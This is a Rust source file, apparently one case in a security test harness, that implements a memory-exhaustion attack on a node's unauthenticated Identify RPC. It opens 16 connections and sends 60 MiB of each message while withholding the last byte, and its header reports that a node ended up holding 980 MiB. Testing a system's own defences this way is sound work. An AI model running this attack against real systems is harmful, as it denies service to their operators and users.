//! Large messages at the peer port, held open. The attacker sends 60 MiB of a message to Identify,
//! the one call that a stranger may make, and never sends its last byte. Sixteen such calls made a
//! node hold 980 MiB.

use anyhow::Result;

use super::super::case::{Case, Role, Target};
use super::super::wire::{self, Caller};

/// Connections, each with one call.
const CONNECTIONS: usize = 16;
/// Bytes that are sent of each message.
const SENT: usize = 60 << 20;

pub(crate) const CASE: Case = Case {
    name: "identify",
    does: "holds open 16 calls of 60 MiB at the peer port",
    role: Role::Follower,
    attack: |target| Box::pin(attack(target)),
    ..Case::PLAIN
};

async fn attack(target: Target) -> Result<()> {
    let body = wire::announced(SENT + 1, &vec![0; SENT]);
    let hold = move |target: Target, _| {
        let body = body.clone();
        async move {
            let caller = Caller::connect(&target, &target.peers).await?;
            let (response, mut sending) = caller.open("/lockstep.peer.v1.Peer/Identify").await?;
            sending.send_data(body, false)?;
            target.count("calls held open", 1);
            caller.end(response).await
        }
    };
    target.together(CONNECTIONS, hold).await
}
